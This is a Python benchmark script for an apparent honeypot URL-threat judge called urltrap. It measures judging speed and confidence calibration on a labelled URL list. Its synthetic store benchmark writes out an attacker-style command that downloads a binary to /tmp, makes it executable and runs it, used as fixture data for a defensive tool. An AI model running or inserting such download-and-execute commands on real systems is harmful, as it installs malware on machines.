"""Judging: URLs per second from prepared evidence and through the store, and how well confidences are calibrated.

`python bench/judge.py [URLS.csv]` prints one JSON line; `--fit` prints the weights of a URL's spelling, fitted again.
The protocol, which `docs/judging.md` explains: the list (url, label, threat, tags, date, source) is split twice. By
day: half of the days are for fitting, the others for the test. By time: what is older than a date is for fitting, what
is newer for the test, for several dates. Undated URLs go by their host, half of the hosts to each side, in both. The
shipped weights were fitted on what is on the fitting side of every split: half of the days before the first of those
dates, half of the undated hosts. No weight was chosen by looking at a test side.

A URL is judged three ways. *others*: by its spelling, the shipped list of hosts, and what dumps of other sources than
the one that gave its label list up to its day: the label is nowhere in the evidence. *left_out*: the same, with
weights that were fitted without that source. *own_dump*: as one whose source is a dump that urltrap reads, listed by
that very dump, and one from attackers' commands as named by a command: label and evidence are one, and what it says is
only that a listing is believed.

Each error is told with the part of it where we claim too much, and before the limit that is put on what a spelling
alone may give.
"""

from __future__ import annotations

import csv
import hashlib
import json
import math
import sys
import tempfile
import time
from collections import Counter, defaultdict
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from urltrap.intel import known
from urltrap.judge import Evidence, Payload, judge
from urltrap.judge.calibration import SIGNS
from urltrap.judge.fitted import SHIPPED, Spelling
from urltrap.judge.lexical import signs
from urltrap.model.capture import Capture, FetchRequest
from urltrap.model.event import (
    Captured,
    CommandEntered,
    Connected,
    Disconnected,
    DownloadAsked,
    EventBase,
    ProgramRun,
)
from urltrap.model.ids import new_ulid
from urltrap.model.settings import Settings
from urltrap.model.url import Url, UrlError, canonical, parse_url
from urltrap.model.verdict import Observation, Place, Verdict
from urltrap.pipeline.analysing import AnalyseStage
from urltrap.pipeline.campaigning import CampaignStage
from urltrap.pipeline.concluding import ConcludeStage
from urltrap.pipeline.judging import JudgeStage
from urltrap.pipeline.laboratory import InProcess
from urltrap.pipeline.recovering import RecoverStage
from urltrap.pipeline.rejudging import rejudge
from urltrap.pipeline.workshop import Workshop
from urltrap.quarantine import Quarantine
from urltrap.recover.flags import host_address
from urltrap.store import open_store
from urltrap.store.intake import ingest

NOW = datetime(2026, 11, 24, tzinfo=UTC)
DUMPS = {
    "urlhaus": "urlhaus",
    "PhishingURLDatasets": "phishtank",
    "openphish": "openphish",
    "TweetFeed": "tweetfeed",
}
CUTS = ("2021-06-01", "2024-01-01", "2025-06-01", "2026-01-01")
"""Dates that split the list by time."""
DEFAULT = Path(__file__).resolve().parents[2] / "shared" / "data" / "urls.csv"
KNOWN = known.shipped()


@dataclass(frozen=True)
class Labelled:
    """One line of the list."""

    url: Url
    malicious: bool
    provider: str
    commanded: bool
    date: str
    held_back: bool

    def is_after(self, cut: str) -> bool:
        """Whether it is for the test when the list is split at this date."""
        return self.date >= cut if self.date else self.held_back

    @property
    def fits(self) -> bool:
        """Whether it is on the fitting side of every split."""
        return not (self.held_back or self.is_after(CUTS[0]))


def load(path: Path) -> list[Labelled]:
    """Lines whose URL is one."""
    rows = []
    with path.open(newline="") as stream:
        for row in csv.DictReader(stream):
            if row["label"] not in ("malicious", "benign"):
                continue
            try:
                url = parse_url(canonical(row["url"]))
            except UrlError:
                continue
            malicious = row["label"] == "malicious"
            day = row["date"][:10] if len(row["date"]) >= 10 else url.host
            held_back = hashlib.sha256(day.encode()).digest()[-1] % 2 == 1
            provider = (
                next((name for part, name in DUMPS.items() if part in row["source"]), "") if malicious else ""
            )
            commanded = malicious and any(word in row["source"].lower() for word in ("honeypot", "cowrie"))
            rows.append(Labelled(url, malicious, provider, commanded, row["date"], held_back))
    return rows


@dataclass
class Dumps:
    """What each source lists, by URL, by host and path, and by host, with the days."""

    listed: dict[tuple[str, ...], list[tuple[str, str]]] = field(default_factory=lambda: defaultdict(list))

    @classmethod
    def of(cls, rows: Sequence[Labelled]) -> Dumps:
        """The dumps that the list is made of."""
        made = cls()
        for item in rows:
            if item.provider:
                for key in _keys(item.url):
                    made.listed[key].append((item.provider, item.date))
        return made

    def others(self, item: Labelled) -> tuple[Observation, ...]:
        """What sources other than its own say of a URL up to its day; each one the most exact that it says."""
        said: dict[str, Observation] = {}
        for key, kind, detail in zip(_keys(item.url), ("url", "url", "host"), DETAILS, strict=True):
            for provider, day in self.listed.get(key, ()):
                if provider != item.provider and (not item.date or day <= item.date):
                    said.setdefault(provider, _listing(provider, item.url, kind, detail))
        return tuple(said.values())


DETAILS = ("this URL", "host and path", "other URLs of this host")


def _keys(url: Url) -> tuple[tuple[str, ...], ...]:
    return (url.text,), (url.host, url.path.partition("?")[0]), (url.host, "", "")


def _listing(provider: str, url: Url, kind: str, detail: str) -> Observation:
    return Observation.model_validate(
        {"provider": provider, "subject_kind": kind, "subject": url.text, "at": NOW, "result": "listed",
         "detail": detail}
    )  # fmt: skip


def evidence(item: Labelled, dumps: Dumps | None = None) -> Evidence:
    """What the product would hold about it; without `dumps` its own one, and the command that named it."""
    url = item.url
    if dumps is not None:
        listed = dumps.others(item)
    else:
        listed = (_listing(item.provider, url, "url", "this URL"),) if item.provider else ()
    return Evidence(
        url=url.text, host=url.host, port=url.port, scheme=url.scheme, first_seen=NOW, secret="bench",
        raw_address=host_address(url.host) is not None, observations=listed, labels=KNOWN.labels(url.host),
        commanded=item.commanded and dumps is None,
    )  # fmt: skip


@dataclass(frozen=True)
class Error:
    """Distances of confidence and truth: all, where too much was claimed, and all before the limit."""

    error: float
    claimed_too_much: float
    before_the_limit: float
    urls: int

    def __str__(self) -> str:
        return f"{self.error} ({self.claimed_too_much} too much, {self.before_the_limit} unlimited, n={self.urls})"


def distances(said: Sequence[tuple[float, bool]], bins: int = 10) -> tuple[float, float]:
    """Expected calibration error over equally wide bins of percentages, and the part of it that claims too much."""
    sums = [[0.0, 0.0] for _ in range(bins)]
    for percent, malicious in said:
        place = sums[min(bins - 1, int(percent * bins) // 100)]
        place[0] += percent / 100
        place[1] += malicious
    off = [claimed - true for claimed, true in sums]
    return sum(map(abs, off)) / max(1, len(said)), sum(max(0.0, one) for one in off) / max(1, len(said))


def calibration_error(judged: Sequence[tuple[Verdict, bool]]) -> float:
    """The mean distance of confidence and truth."""
    return distances([(verdict.confidence, malicious) for verdict, malicious in judged])[0]


def unlimited(verdict: Verdict) -> int:
    """The confidence before it was limited."""
    return verdict.confidence - sum(reason.weight for reason in verdict.reasons if reason.code == "limited")


Judged = Sequence[tuple[Verdict, bool]]


def judged(rows: Sequence[Labelled], dumps: Dumps | None = None, spelling: Spelling = SHIPPED) -> Judged:
    """The verdict on each of these, beside the truth."""
    return [(judge(evidence(item, dumps), NOW, (0, 0), spelling), item.malicious) for item in rows]


def error_of(found: Judged) -> Error:
    """The calibration error of verdicts."""
    error, too_much = distances([(verdict.confidence, malicious) for verdict, malicious in found])
    before = distances([(unlimited(verdict), malicious) for verdict, malicious in found])[0]
    return Error(round(error, 4), round(too_much, 4), round(before, 4), len(found))


def test_side(rows: Sequence[Labelled], split: str) -> list[int]:
    """The places of those that are for the test in a split: "days", or a date."""
    return [n for n, item in enumerate(rows) if (item.held_back if split == "days" else item.is_after(split))]


def without(source: str, rows: Sequence[Labelled], dumps: Dumps) -> Error:
    """The error over what a source gave and the benign, on the test side by day, with weights that never saw it."""
    weights = fit([item for item in rows if not (item.malicious and item.provider == source)])
    spelling = Spelling(weights.pop("prior"), weights)
    tested = [item for item in rows if item.held_back and (not item.malicious or item.provider == source)]
    return error_of(judged(tested, dumps, spelling))


def fit(rows: Sequence[Labelled]) -> dict[str, float]:
    """Log-odds of each sign and of "prior", by logistic regression with a ridge, over the fitting side."""
    counted: Counter[tuple[frozenset[str], bool]] = Counter()
    for item in rows:
        if item.fits:
            url = item.url
            shown = signs(url.scheme, url.host, url.port, url.path, host_address(url.host) is not None)
            counted[shown, item.malicious] += 1
    weights = dict.fromkeys((*SIGNS, "prior"), 0.0)
    for _ in range(300):
        slope = dict.fromkeys(weights, 0.0)
        bend = dict.fromkeys(weights, 1e-6)
        for (shown, malicious), n in counted.items():
            names = (*shown, "prior")
            likely = 1 / (1 + math.exp(-max(-30.0, min(30.0, sum(weights[name] for name in names)))))
            for name in names:
                slope[name] += n * (malicious - likely)
                bend[name] += n * likely * (1 - likely) * len(names)
        for name in weights:
            ridge = 0.0 if name == "prior" else 1.0
            weights[name] += (slope[name] - ridge * weights[name]) / (bend[name] + ridge)
    return weights


def prepared(count: int) -> list[Evidence]:
    """Evidence as full as that of a busy URL."""
    payload = Payload(
        "a" * 64, "elf", "mips", status=200, size=90_000, family="Mirai", rules=("mirai",), role="payload"
    )
    listed = Observation(
        provider="urlhaus",
        subject_kind="url",
        subject="x",
        at=NOW,
        result="listed",
        detail="this URL",
        tags=["mirai"],
    )
    return [
        Evidence(
            url=f"http://198.51.{n % 100}.{n % 250}:81/bins/x{n}.mips", host=f"198.51.{n % 100}.{n % 250}", port=81,
            scheme="http", raw_address=True, first_seen=NOW - timedelta(hours=n % 90), secret=str(n), sources=n % 4,
            asked=True, commanded=True, run=n % 2 == 0, payloads=(payload,) if n % 3 else (), outcomes=("fetched",),
            observations=(listed,) if n % 5 == 0 else (), protocols=("ssh",), clients=("wget",),
            techniques=("T1105", "T1222.002"),
        )
        for n in range(count)
    ]  # fmt: skip


def speed(count: int = 20_000) -> float:
    """URLs per second, from prepared evidence."""
    items = prepared(count)
    began = time.perf_counter()
    for item in items:
        judge(item, NOW, (30, 720))
    return count / (time.perf_counter() - began)


def main() -> None:
    """Print the figures."""
    arguments = [argument for argument in sys.argv[1:] if not argument.startswith("--")]
    path = Path(arguments[0]) if arguments else DEFAULT
    if "--fit" in sys.argv:
        print(json.dumps({name: round(weight, 2) for name, weight in fit(load(path)).items()}))
        return
    figures: dict[str, object] = {"bench": "judge", "prepared_urls_per_second": round(speed())}
    if path.exists():
        rows = load(path)
        dumps = Dumps.of(rows)
        splits = {split: test_side(rows, split) for split in ("days", *CUTS)}
        others, own = judged(rows, dumps), judged(rows)
        benign = [verdict for verdict, malicious in others if not malicious]
        figures |= {
            "protocol": "error (part that claims too much, error before the limit of a spelling); weights from the "
            "fitting side alone; dated splits, undated URLs by host",
            "error_by_others": {
                name: str(error_of([others[n] for n in places])) for name, places in splits.items()
            },
            "error_left_out": {
                source or "commands": str(without(source, rows, dumps)) for source in (*DUMPS.values(), "")
            },
            "error_by_own_dump": {
                name: str(error_of([own[n] for n in places])) for name, places in splits.items()
            },
            "listed_by_others": sum(bool(dumps.others(item)) for item in rows if item.malicious),
            "benign": len(benign),
            "benign_from_60": sum(verdict.confidence >= 60 for verdict in benign),
            "benign_malicious": sum(verdict.verdict.startswith("malicious-") for verdict in benign),
        }
    with tempfile.TemporaryDirectory() as folder:
        figures |= through_the_store(Path(folder))
    print(json.dumps(figures))


def through_the_store(folder: Path, count: int = 3000) -> dict[str, object]:
    """URLs per second of processor time that are judged again; each has a session, a capture and a payload."""
    store = open_store(str(folder / "urltrap.db"))
    quarantine = Quarantine(folder / "quarantine")
    examiner, _ = InProcess.from_folder(None)
    workshop = Workshop(
        settings=Settings(), store=store, quarantine=quarantine, fetcher=_Nobody(), places=_Nowhere(), providers=[],
        known_hosts=KNOWN, laboratory=examiner, now=lambda: NOW,
    )  # fmt: skip
    events: list[EventBase] = []
    stream = new_ulid(1_795_000_000_000, b"fetcher---")
    for n in range(count):
        url = f"http://198.51.{n % 100}.{n % 250}/bins/x{n}.mips"
        session = new_ulid(1_795_000_100_000 + n, n.to_bytes(10, "big"))
        kept = quarantine.put(
            b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\0\x08\0" + n.to_bytes(4, "big") + bytes(60)
        )
        capture = Capture(
            url=url,
            at=NOW,
            outcome="fetched",
            status=200,
            sha256=kept.sha256,
            size=kept.size,
            for_session=session,
        )
        events += [
            Connected(session=session, seq=0, at=NOW, sensor="ssh", protocol="ssh", src_ip=f"203.0.{n % 113}.{n % 251}",
                      src_port=4, dst_ip="192.0.2.1", dst_port=22),
            CommandEntered(session=session, seq=1, at=NOW, mode="exec",
                           text=f"cd /tmp; wget {url} -O .x; chmod +x .x; ./.x; uname -a".encode()),
            DownloadAsked(session=session, seq=2, at=NOW, url=url.encode(), client="wget", output=b"/tmp/.x"),
            ProgramRun(session=session, seq=3, at=NOW, argv=[b"chmod", b"+x", b".x"], outcome="ran"),
            ProgramRun(session=session, seq=4, at=NOW, argv=[b"./.x"], outcome="ran"),
            Disconnected(session=session, seq=5, at=NOW, reason="client", duration_ms=5),
            Captured(session=stream, seq=n, at=NOW, capture=capture),
        ]  # fmt: skip
    for start in range(0, len(events), 500):
        ingest(store, "bench", events[start : start + 500], (1, start + 1))
    line = (RecoverStage(), AnalyseStage(), ConcludeStage(), CampaignStage(), JudgeStage())
    while sum(stage.run(workshop) for stage in line):
        pass
    began = time.process_time()
    moved = rejudge(workshop)
    seconds = time.process_time() - began
    store.close()
    return {
        "stored_urls": sum(moved.values()),
        "stored_urls_per_second": round(sum(moved.values()) / seconds),
    }


class _Nobody:
    def fetch(self, request: FetchRequest, timeout: float = 0) -> Capture:
        raise RuntimeError("nothing is fetched here")


class _Nowhere:
    version = "bench"

    def find(self, address: str) -> Place:
        return Place()


if __name__ == "__main__":
    main()
